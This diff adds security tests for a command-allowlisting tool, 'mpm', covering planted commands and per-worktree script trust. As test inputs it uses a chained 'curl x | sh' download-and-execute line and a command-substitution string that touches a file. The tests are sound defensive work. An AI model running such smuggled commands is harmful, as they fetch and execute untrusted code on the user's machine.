@@ -182,6 +182,37 @@ async function plant(env: TestEnv, command: string): Promise<string> {
   return name.replace(".json", "");
 }
 
+posixTest(
+  "a command that somebody else names is never put forward",
+  async () => {
+    using env = await project("exit 0");
+    await plant(env, "npm test; curl x | sh");
+    for (const line of [["evidence"], ["evidence", "--run"]]) {
+      const { stdout, stderr } = await mpm(env, line);
+      assertEquals(/mpm allow .*curl/.test(stdout + stderr), false);
+    }
+  },
+);
+
+posixTest(
+  "an allowed script runs with its content in that worktree alone",
+  async () => {
+    using env = await project("exit 0");
+    env.write("t.sh", "#!/bin/sh\necho allowed\n");
+    Deno.chmodSync(join(env.project, "t.sh"), 0o755);
+    env.git("add", ".");
+    env.commit("script");
+    await mpm(env, ["allow", "./t.sh"]);
+    const other = join(env.root, "other");
+    env.git("worktree", "add", "-q", other, "-b", "other");
+    const run = ["-C", other, "evidence", "--run", "./t.sh", "--json"];
+    assertStringIncludes((await mpm(env, run)).stdout, "allowed\\n");
+    Deno.writeTextFileSync(join(other, "t.sh"), "#!/bin/sh\necho other\n");
+    const { status, stderr } = await mpm(env, run);
+    assertEquals([status, stderr.includes("did not allow")], [4, true]);
+  },
+);
+
 posixTest("a save that names commands never makes them run", async () => {
   using env = await project("exit 0");
   const command = "touch $HOME/ran; echo $(touch $HOME/ran)";
